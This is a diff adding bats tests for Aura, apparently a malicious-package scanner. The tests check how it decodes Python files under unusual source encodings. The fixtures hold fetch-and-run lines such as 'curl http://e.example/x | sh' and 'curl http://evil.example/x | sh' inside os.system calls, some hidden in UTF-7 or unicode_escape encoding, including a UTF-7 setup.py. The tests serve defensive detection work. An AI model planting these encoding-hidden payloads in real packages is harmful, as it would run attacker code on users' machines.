@@ -51,6 +51,79 @@ FIX="$BATS_TEST_DIRNAME/fixtures/parse"
 	done
 }
 
+@test "every source codec CPython runs is decoded as CPython decodes it (the oracle: CPython's ast)" {
+	# each file is the whole text encoded with the codec, as CPython decodes it whole
+	python3 - "$BATS_TEST_TMPDIR" <<'PY'
+import sys
+d = sys.argv[1]
+payload = 'import os\nx = "caf\u00e9 \\\\ \\x41 \u00a7"\nos.system("curl http://e.example/x | sh")\n'
+ascii_payload = 'import os\nos.system("curl http://e.example/x | sh")\n'
+for cookie in ['utf-7', 'UTF7', 'latin-1', 'Latin_1-foo', 'iso8859_15', 'cp1252', 'windows-1252', 'cp850',
+               'koi8-u', 'utf-8-foo', 'utf_8', 'u8', 'ascii']:
+    text = f'# -*- coding: {cookie} -*-\n' + payload
+    try:
+        data = text.encode(cookie if cookie != 'Latin_1-foo' and cookie != 'utf-8-foo' else cookie[:7].replace('_', '-'))
+    except Exception:
+        data = (f'# -*- coding: {cookie} -*-\n' + ascii_payload).encode('ascii')
+    open(f'{d}/codec_{cookie}.py', 'wb').write(data)
+# unicode_escape: the payload hidden in escapes; raw_unicode_escape: in \u escapes
+open(f'{d}/codec_unicode_escape.py', 'wb').write(
+    b'# coding: unicode_escape\nimport os\nos.system("\\x63url http://e.example/x | sh")\n'
+    b'x = "\\u00e9\\N{SECTION SIGN}\\101\\\n"\n')
+open(f'{d}/codec_raw_unicode_escape.py', 'wb').write(
+    b'# coding: raw-unicode-escape\nimport os\nos.system("\\u0063url http://e.example/x | sh")\n'
+    b'x = "\\\\u0041 \xe9"\n')
+PY
+	for f in "$BATS_TEST_TMPDIR"/codec_*.py; do
+		compare_with_oracle "$f" base64
+		file_record "$f" python base64 >"$BATS_TEST_TMPDIR/in"
+		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		refute_output --partial '"type":"hit"'
+	done
+	# the unicode_escape payload is a plain call once decoded
+	file_record "$BATS_TEST_TMPDIR/codec_unicode_escape.py" python base64 | aura-parse >"$BATS_TEST_TMPDIR/out"
+	run jq -r 'select(.type == "ast") | .tree.body[1].value.args[0].value' "$BATS_TEST_TMPDIR/out"
+	assert_output 'curl http://e.example/x | sh'
+}
+
+@test "a codec CPython runs but Aura cannot decode exactly is a high hit; codecs CPython refuses are low" {
+	printf '# coding: mac_roman\nimport os\nos.system("\x8e")\n' >"$BATS_TEST_TMPDIR/a.py"
+	printf '# coding: shift_jis\nimport os\n' >"$BATS_TEST_TMPDIR/b.py"
+	# glibc's UTF-7 refuses a backslash that Python's takes as itself
+	printf '# coding: utf-7\nimport os\nos.system("a\\\\b")\n' >"$BATS_TEST_TMPDIR/c.py"
+	for f in a b c; do
+		python3 -c 'import ast, sys; ast.parse(open(sys.argv[1], "rb").read())' "$BATS_TEST_TMPDIR/$f.py"
+		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
+		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		assert_success
+		assert_equal "$(records_of_type hit <<<"$output" | jq -c 'select(.detection == "UnanalysedSourceEncoding") | [.severity, .score >= 80]')" '["high",true]'
+	done
+	# CPython refuses these files: a BOM with another codec, UTF-16, no such codec
+	printf '\xef\xbb\xbf# coding: latin-1\nimport os\n' >"$BATS_TEST_TMPDIR/d.py"
+	printf '\xef\xbb\xbf# coding: utf8\nimport os\n' >"$BATS_TEST_TMPDIR/e.py"
+	printf '# coding: utf-16\nimport os\n' >"$BATS_TEST_TMPDIR/f.py"
+	printf '# coding: utf-8x\nimport os\n' >"$BATS_TEST_TMPDIR/g.py"
+	for f in d e f g; do
+		run python3 -c 'import ast, sys; ast.parse(open(sys.argv[1], "rb").read())' "$BATS_TEST_TMPDIR/$f.py"
+		assert_failure
+		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
+		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		assert_success
+		assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .severity]')" '["UndecodableSource","low"]'
+		assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Import"]'
+	done
+}
+
+@test "pipeline: a setup.py in UTF-7 running curl | sh scores high" {
+	mkdir -p "$BATS_TEST_TMPDIR/pkg"
+	python3 -c '
+import sys
+text = "# coding: utf-7\nimport os\nos.system(\"curl http://evil.example/x | sh\")\n"
+open(sys.argv[1], "wb").write(text.encode("utf-7"))' "$BATS_TEST_TMPDIR/pkg/setup.py"
+	run aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
+	assert_equal "$(jq -r 'select(.type == "verdict") | .level' <<<"$output" | head -1)" high
+}
+
 @test "NUL bytes do not hide the code after them" {
 	printf 'x = 1\x00\nimport os\nos.system("id")\n' >"$BATS_TEST_TMPDIR/nul.py"
 	file_record "$BATS_TEST_TMPDIR/nul.py" python base64 >"$BATS_TEST_TMPDIR/in"
